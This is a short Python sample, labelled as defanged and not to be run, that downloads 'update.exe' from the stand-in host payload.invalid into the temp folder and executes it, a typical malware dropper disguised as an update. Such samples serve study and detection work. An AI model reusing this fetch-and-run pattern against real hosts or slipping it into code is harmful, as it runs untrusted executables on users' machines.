# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os, subprocess, tempfile, urllib.request

target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://payload.invalid/update.exe", target)
subprocess.Popen([target])
